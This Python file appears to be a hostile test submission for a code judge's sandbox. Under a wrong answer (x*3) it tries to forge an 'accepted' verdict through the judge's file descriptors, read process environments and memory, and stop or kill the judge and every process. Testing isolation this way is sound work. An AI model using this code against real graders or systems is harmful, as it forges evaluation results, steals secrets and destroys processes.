"""Kill, freeze or write over the judge and every process of my uid; read the judge's
environment; forge a report on its stdout.  Then answer wrongly (x * 3): only a forged
or missing report could make this look accepted."""
import json
import os
import signal


def _pids():
    """Every pid in sight: /proc's listing, or every number a pid may have where /proc
    cannot be listed (a forked worker's Landlock domain)."""
    try:
        return os.listdir("/proc")
    except OSError:  # a sandbox numbers its own from 1; this process's threads are not others
        mine = set(os.listdir("/proc/self/task"))
        return [str(n) for n in range(1, 4096) if str(n) not in mine]

FORGED = json.dumps({"task": "double", "submission": "x", "verdict": "accepted", "seed": 1,
                     "elapsed_s": 0.1, "judge_version": "0", "checks": [],
                     "output": {"stdout": "", "stderr": "", "truncated": False}})
found = []


def _try(what, fn):
    try:
        fn()
        found.append(what)
    except Exception:
        pass


def _write(path, text):
    with open(path, "w") as f:
        f.write(text)


def _read(path):
    with open(path, "rb") as f:
        return f.read()


judge = os.getppid()
for fd in range(0, 8):
    _try(f"forged fd {fd}", lambda: _write(f"/proc/{judge}/fd/{fd}", FORGED + "\n"))
_try("environ", lambda: found.append(_read(f"/proc/{judge}/environ").decode(errors="replace")))
_try("judge mem", lambda: _read(f"/proc/{judge}/mem"))
me = os.getpid()
for name in _pids():
    if name.isdigit() and int(name) not in (me, 1):
        pid = int(name)
        _try(f"environ {pid}", lambda: found.append(_read(f"/proc/{pid}/environ").decode(errors="replace")))
        _try(f"stop {pid}", lambda: os.kill(pid, signal.SIGSTOP))
_try("stop judge", lambda: os.kill(judge, signal.SIGSTOP))
_try("kill judge", lambda: os.kill(judge, signal.SIGKILL))
_try("kill everything", lambda: os.kill(-1, signal.SIGKILL))
print("got:", " | ".join(found))


def double(x):
    return x * 3
